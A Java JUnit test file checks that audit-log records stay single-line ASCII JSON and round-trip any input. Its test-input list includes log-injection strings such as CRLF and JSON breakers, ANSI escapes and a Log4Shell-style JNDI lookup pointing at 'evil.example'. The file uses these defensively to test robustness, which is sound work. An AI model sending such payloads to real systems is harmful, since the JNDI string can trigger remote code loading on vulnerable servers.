package dev.essfacade.audit;

import java.time.Instant;
import java.util.List;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.MDC;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;

/** One record is one line of ASCII. */
class AuditRecordTests {

	private static final Instant NOON = Instant.parse("2026-11-24T12:00:00Z");

	@AfterEach
	void clearMdc() {
		MDC.clear();
	}

	static List<String> hostile() {
		return List.of("\r\n", "\n{\"event\":{}}", "\"},{\"", "\\", "\u001b[31mred\u001b[0m", "\u0000", "\u007f",
				"\u0085", "\u2028\u2029", "\u202e", "\ufeff", "\ud800", "\udc00\ud800", "\ud83d\ude00",
				"${jndi:ldap://evil.example/a}", "{}", "%n%m%ex", "a".repeat(10_000), "\u91cd\u65b0\u90e8\u7f72");
	}

	@ParameterizedTest
	@MethodSource("hostile")
	void anyTextBecomesOneLineOfAsciiAndReadsBack(String text) {
		String line = AuditRecord.at(NOON)
			.with("event.reason", text)
			.with("essfacade.targets", List.of(text, text))
			.json();
		assertThat(line).matches("[ -\\x7f]*");
		JsonNode record = AuditRecords.parse(line);
		assertThat(record.at("/event/reason").asString()).isEqualTo(text);
		assertThat(record.at("/essfacade/targets/1").asString()).isEqualTo(text);
	}

	@Test
	void dottedNamesBecomeNestedObjects() {
		String line = AuditRecord.at(NOON).with("a.b.c", 1).with("a.b.d", true).with("a.e", null).with("f", "g").json();
		assertThat(line).isEqualTo(
				"{\"@timestamp\":\"2026-11-24T12:00:00Z\",\"ecs\":{\"version\":\"8.11\"},\"a\":{\"b\":{\"c\":1,\"d\":true}},\"f\":\"g\"}");
	}

	@Test
	void hasTheIdsOfTheRequest() {
		MDC.put("requestId", "mine");
		MDC.put("traceId", "4bf92f3577b34da6a3ce929d0e0e4736");
		JsonNode record = AuditRecords.parse(AuditRecord.at(NOON).json());
		assertThat(AuditRecords.text(record, "http.request.id")).isEqualTo("mine");
		assertThat(AuditRecords.text(record, "trace.id")).isEqualTo("4bf92f3577b34da6a3ce929d0e0e4736");
	}

}
